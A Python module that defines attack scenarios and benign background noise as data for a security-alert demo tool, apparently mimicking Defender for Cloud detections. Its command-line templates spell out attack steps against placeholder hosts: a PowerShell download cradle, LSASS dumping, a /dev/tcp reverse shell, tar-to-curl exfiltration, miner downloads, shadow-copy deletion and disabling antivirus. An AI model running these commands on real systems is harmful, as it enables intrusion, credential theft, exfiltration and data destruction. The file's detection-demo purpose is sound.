"""Attack scenarios and background noise of the demo data, as data.

A stage names a catalog alert (by type, or by display name where the catalog row gives no type),
when it fires relative to the start of the attack, and which pieces of evidence it carries
(roles, built into entities by `demo_entities`). Command lines are formatted with the scenario
instance's context, so every alert of an instance shows the same hosts, accounts, IPs, hashes,
URLs and command lines, and shared infrastructure (the domain controller, the NAT egress IP, the
SYSTEM account, the backup service account) shows up across unrelated instances and noise.
"""

from __future__ import annotations

from dataclasses import dataclass

from tui.ingest.demo_tenant import (
    BACKUP_SERVERS,
    CI_CLUSTERS,
    DATA_STORES,
    DOMAIN_CONTROLLERS,
    EDGE_VMS,
    WEB_APPS,
    Pool,
)


# eq=False: stages are unique constants used as dict keys for every alert, so identity
# hashing (not hashing every field) keeps the generator fast.
@dataclass(frozen=True, slots=True, eq=False)
class Stage:
    key: str  # alert type, or the display name of a catalog row without one
    catalog_kind: str  # catalog section: windows-vm, linux-vm, network, kubernetes, ...
    hours: float  # offset from the start of the attack
    evidence: tuple[str, ...]  # entity roles, see demo_entities.ROLES
    techniques: tuple[str, ...] = ()
    command: str = ""  # the process command line, formatted with the instance context
    run_as: str = "account"  # evidence role of the account that runs `command`
    alert_type: str = ""  # type for catalog rows that give none (Defender naming)
    optional: bool = False  # left out of some instances, as real detections are


@dataclass(frozen=True, slots=True)
class Scenario:
    name: str
    victim: str  # resource kind of the attacked resource
    stages: tuple[Stage, ...]


RDP_INTRUSION = Scenario(
    "rdp-intrusion",
    "windows-vm",
    (
        Stage(
            "RDP_Incoming_BF_OneToOne",
            "network",
            0,
            ("host", "attacker_ip", "inbound_rdp"),
            ("T1110",),
        ),
        Stage(
            "VM_LoginBruteForceSuccess",
            "windows-vm",
            1.5,
            ("host", "attacker_ip", "account"),
            ("T1110", "T1110.001", "T1078"),
        ),
        Stage(
            "VM_RegistryPersistencyKey",
            "windows-vm",
            2.2,
            ("host", "account", "process", "payload"),
            ("T1547", "T1547.001"),
            r"reg.exe add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v {persist_name}"
            r' /t REG_SZ /d "C:\ProgramData\{payload}" /f',
        ),
        Stage(
            "Suspicious PowerShell Activity Detected",
            "windows-vm",
            3,
            ("host", "account", "process", "url"),
            ("T1059", "T1059.001", "T1105"),
            # [Type]::Member syntax is what attacker text looks like to a markup parser
            'powershell.exe -nop -w hidden -c "[Net.ServicePointManager]::SecurityProtocol='
            "[Net.SecurityProtocolType]::Tls12; IEX (New-Object Net.WebClient).DownloadString("
            "'{c2_url}')\"",
            alert_type="VM_SuspiciousPowerShellActivity",
            optional=True,
        ),
        Stage(
            "Possible credential dumping detected",
            "windows-vm",
            20,
            ("host", "system", "process"),
            ("T1003", "T1003.001"),
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {lsass_pid}"
            r" C:\ProgramData\{dump_name}.dmp full",
            run_as="system",
            alert_type="VM_CredentialDumping",
        ),
        Stage(
            "RDP_Outgoing_BF_OneToOne",
            "network",
            26,
            ("host", "dc", "svc_account", "rdp_to_dc"),
            ("T1021", "T1021.001"),
            optional=True,
        ),
        Stage(
            "Network_CommunicationWithC2",
            "network",
            49,
            ("host", "nat_ip", "c2_ip", "egress", "url"),
            ("T1041", "T1071"),
        ),
    ),
)

SSH_MINER = Scenario(
    "ssh-cryptominer",
    "linux-vm",
    (
        Stage(
            "VM_SshBruteForceFailed",
            "linux-vm",
            0,
            ("host", "attacker_ip", "inbound_ssh"),
            ("T1110",),
        ),
        Stage(
            "VM_SshBruteForceSuccess",
            "linux-vm",
            1,
            ("host", "attacker_ip", "account"),
            ("T1110", "T1110.001"),
        ),
        Stage(
            "VM_SshKeyAddition",
            "linux-vm",
            1.4,
            ("host", "account", "process"),
            ("T1098", "T1098.004"),
            'echo "ssh-ed25519 {ssh_key} kali" >> /home/{account}/.ssh/authorized_keys',
        ),
        Stage(
            "VM_SuspectDownload",
            "linux-vm",
            2,
            ("host", "account", "process", "url"),
            ("T1105",),
            "curl -fsSL {c2_url} -o /tmp/.X11-unix/{miner} && chmod +x /tmp/.X11-unix/{miner}",
        ),
        Stage(
            "VM_CryptoCoinMinerExecution",
            "linux-vm",
            2.3,
            ("host", "account", "process", "payload", "domain"),
            ("T1496",),
            "/tmp/.X11-unix/{miner} -o stratum+tcp://{pool_domain}:3333 -u {wallet} -p x"
            " --donate-level 1 -B",
        ),
        Stage(
            "VM_SystemLogRemoval",
            "linux-vm",
            30,
            ("host", "account", "process"),
            ("T1070", "T1070.002"),
            "rm -f /var/log/auth.log /var/log/syslog /root/.bash_history",
            optional=True,
        ),
    ),
)

AKS_MINING = Scenario(
    "aks-cryptomining",
    "kubernetes",
    (
        Stage(
            "K8S_ExposedDashboard",
            "kubernetes",
            0,
            ("cluster", "attacker_ip"),
            ("T1133",),
        ),
        Stage(
            "K8S_AnomalousPodDeployment",
            "kubernetes",
            5,
            ("cluster", "namespace", "pod", "image", "attacker_ip"),
            ("T1610",),
        ),
        Stage(
            "K8S_MaliciousContainerImage",
            "kubernetes",
            5.1,
            ("cluster", "namespace", "pod", "image"),
            ("T1496", "T1610"),
        ),
        Stage(
            "K8S.NODE_DigitalCurrencyMining",
            "kubernetes",
            5.5,
            ("node", "cluster", "pod", "process", "domain"),
            ("T1496",),
            "/usr/local/bin/{miner} --url {pool_domain}:443 --user {wallet} --tls --threads 8",
            run_as="root",
        ),
        Stage(
            "K8S.NODE_CurrencyMining",
            "kubernetes",
            6,
            ("node", "cluster", "nat_ip", "domain"),
            ("T1496",),
        ),
        Stage(
            "K8S.NODE_HistoryFileCleared",
            "kubernetes",
            29,
            ("node", "cluster", "pod", "process"),
            ("T1070", "T1070.003"),
            "sh -c 'history -c && rm -f /root/.ash_history /root/.bash_history'",
            run_as="root",
            optional=True,
        ),
    ),
)

KEY_VAULT_DUMP = Scenario(
    "keyvault-secret-dump",
    "key-vault",
    (
        Stage("KV_SuspiciousIPAccess", "key-vault", 0, ("attacker_ip", "aad_user"), ("T1078.004",)),
        Stage(
            "KV_ListGetAnomaly",
            "key-vault",
            0.5,
            ("attacker_ip", "aad_user"),
            ("T1555", "T1555.006"),
        ),
        Stage(
            "KV_OperationVolumeAnomaly",
            "key-vault",
            1,
            ("attacker_ip", "aad_user"),
            ("T1555", "T1555.006"),
            optional=True,
        ),
        Stage(
            "KV_AccountVolumeAnomaly",
            "key-vault",
            1.3,
            ("attacker_ip", "aad_user"),
            ("T1087", "T1087.004"),
        ),
    ),
)

WEB_SHELL = Scenario(
    "appservice-webshell",
    "app-service",
    (
        Stage(
            "AppServices_WpScanner",
            "app-service",
            0,
            ("site", "attacker_ip", "site_url"),
            ("T1595", "T1595.002"),
        ),
        Stage(
            "AppServices_PhpInUploadFolder",
            "app-service",
            3,
            ("site", "attacker_ip", "shell_url"),
            ("T1505", "T1505.003"),
        ),
        Stage(
            "AppServices_SuspectPhp",
            "app-service",
            3.2,
            ("site", "process", "shell_url"),
            ("T1505.003", "T1059"),
            'sh -c "id; uname -a; cat /home/site/wwwroot/wp-config.php | grep DB_"',
            run_as="",
        ),
        Stage(
            "AppServices_ReverseShell",
            "app-service",
            4,
            ("site", "process", "c2_ip"),
            ("T1059", "T1059.004"),
            "bash -c 'bash -i >& /dev/tcp/{c2_ip}/4444 0>&1'",
            run_as="",
        ),
        Stage(
            "AppServices_DataEgressArtifacts",
            "app-service",
            27,
            ("site", "process", "url", "nat_ip"),
            ("T1041", "T1560"),
            "sh -c 'tar czf - /home/site/wwwroot | curl -s -T - {c2_url}'",
            run_as="",
        ),
    ),
)

RANSOMWARE_PRECURSORS = Scenario(
    "ransomware-precursors",
    "windows-vm",
    (
        Stage(
            "VM_RunByPsExec",
            "windows-vm",
            0,
            ("host", "dc", "svc_account", "process"),
            ("T1569", "T1569.002", "T1021.002"),
            r"C:\Windows\PSEXESVC.exe -accepteula \\{host} -s cmd.exe /c C:\ProgramData\{payload}",
            run_as="svc_account",
        ),
        Stage(
            "VM_AmRealtimeProtectionDisabled",
            "windows-vm",
            0.4,
            ("host", "svc_account", "process"),
            ("T1562", "T1562.001"),
            "powershell.exe -NoProfile -Command Set-MpPreference -DisableRealtimeMonitoring $true",
            run_as="svc_account",
        ),
        Stage(
            "Suspicious Volume Shadow Copy Activity",
            "windows-vm",
            0.9,
            ("host", "svc_account", "process"),
            ("T1490",),
            "vssadmin.exe delete shadows /all /quiet",
            run_as="svc_account",
            alert_type="VM_SuspiciousVolumeShadowCopyActivity",
        ),
        Stage(
            "VM_TaskkillBurst",
            "windows-vm",
            1,
            ("host", "system", "process"),
            ("T1489",),
            "taskkill.exe /F /IM sqlservr.exe /IM veeamagent.exe /IM msexchangeis.exe",
            run_as="system",
            optional=True,
        ),
        Stage(
            "Ransomware indicators detected",
            "windows-vm",
            1.4,
            ("host", "svc_account", "process", "payload"),
            ("T1486",),
            r"C:\ProgramData\{payload} --encrypt --network --note README-{ransom_id}.txt",
            run_as="svc_account",
            alert_type="VM_RansomwareIndicators",
        ),
    ),
)

SCENARIOS = (RDP_INTRUSION, SSH_MINER, AKS_MINING, KEY_VAULT_DUMP, WEB_SHELL, RANSOMWARE_PRECURSORS)


@dataclass(frozen=True, slots=True)
class Noise:
    """A kind of benign or unactionable alert that repeats across the tenant."""

    name: str
    weight: int
    pool: Pool
    stage: Stage


# Only the `{random}` part of each command line changes between alerts of a family, as with
# real jobs that name temp files after GUIDs: what an analyst suppresses with one rule.
SCANNED = Stage(
    "Network_TrafficFromUnrecommendedIP",
    "network",
    0,
    ("host", "scanner_ips"),
    ("T1595",),
)

NOISE = (
    Noise("internet-scanner", 40, EDGE_VMS, SCANNED),
    Noise(
        "backup-agent",
        14,
        BACKUP_SERVERS,
        Stage(
            "VM_TaskkillBurst",
            "windows-vm",
            0,
            ("host", "svc_account", "process"),
            ("T1489",),
            r'taskkill.exe /F /IM sqlwriter.exe /T /FI "WINDOWTITLE eq vbk-{random}"',
            run_as="svc_account",
        ),
    ),
    Noise(
        "ci-image-build",
        14,
        CI_CLUSTERS,
        Stage(
            "K8S.NODE_ImageBuildOnNode",
            "kubernetes",
            0,
            ("node", "cluster", "process"),
            ("T1612",),
            "docker build -t acrcontosoci.azurecr.io/build/{random}"
            " -f /tmp/ci-{random}/Dockerfile .",
            run_as="root",
        ),
    ),
    Noise(
        "curl-health-check",
        12,
        WEB_APPS,
        Stage(
            "AppServices_CurlToDisk",
            "app-service",
            0,
            ("site", "process"),
            (),
            "curl -s -o /tmp/health-{random}.json https://status.contoso.com/api/ping",
            run_as="",
        ),
    ),
    Noise(
        "dc-rare-svchost",
        8,
        DOMAIN_CONTROLLERS,
        Stage(
            "VM_SvcHostRunInRareServiceGroup",
            "windows-vm",
            0,
            ("host", "system", "process"),
            ("T1543.003",),
            r"C:\Windows\System32\svchost.exe -k DcomLaunch -p -s {random}",
            run_as="system",
        ),
    ),
    Noise(
        "storage-etl-geo",
        12,
        DATA_STORES,
        Stage(
            "Storage.Blob_GeoAnomaly",
            "storage",
            0,
            ("nat_ip", "etl_principal"),
            (),
        ),
    ),
)

# Network_TrafficFromUnrecommendedIP is missing from the 2022 catalog; its text is the one
# Defender for Cloud returns (tests/data/real/defender-for-cloud-recorded-api-responses).
EXTRA_KINDS = {
    "Network_TrafficFromUnrecommendedIP": (
        "Traffic detected from IP addresses recommended for blocking",
        "Defender for Cloud detected inbound traffic from IP addresses that are recommended to"
        " be blocked. This typically occurs when this IP address doesn't communicate regularly"
        " with this resource.\r\nAlternatively, the IP address has been flagged as malicious by"
        " Microsoft's threat intelligence sources.",
        "Low",
        "PreAttack",
    ),
}
